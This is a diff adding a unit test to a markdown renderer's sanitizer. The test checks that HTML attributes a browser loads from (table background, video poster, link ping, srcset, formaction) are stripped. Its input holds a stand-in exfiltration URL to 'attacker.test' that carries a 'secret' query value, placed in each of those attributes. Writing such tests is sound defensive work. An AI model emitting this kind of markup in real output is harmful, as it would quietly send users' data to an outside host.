@@ -40,6 +40,19 @@ describe('renderMarkdown', () => {
     expect(d.innerHTML).not.toContain('onerror');
   });
 
+  it('keeps no attribute a browser loads from: a table background fetches nothing', () => {
+    const leak = 'http://attacker.test/c?q=secret';
+    const html = renderMarkdown(
+      `Sure. <table background="${leak}"><tr><td background="${leak}">ok</td></tr></table> ` +
+        `<video poster="${leak}"></video> <a href="https://example.test/" ping="${leak}">a</a> ` +
+        `<div srcset="${leak} 1x" src="${leak}" action="${leak}" formaction="${leak}">d</div>`,
+    );
+    expect(html).not.toContain('attacker.test');
+    const d = dom(html);
+    expect(d.querySelector('td')!.textContent).toBe('ok');
+    expect(d.querySelector('a')!.getAttribute('href')).toBe('https://example.test/');
+  });
+
   it('an image inside a link is the link\'s text, not a second link', () => {
     const d = dom(renderMarkdown('[![badge](https://example.test/b.svg)](https://example.test/page)'));
     expect([...d.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.textContent])).toEqual([['https://example.test/page', 'image: badge']]);
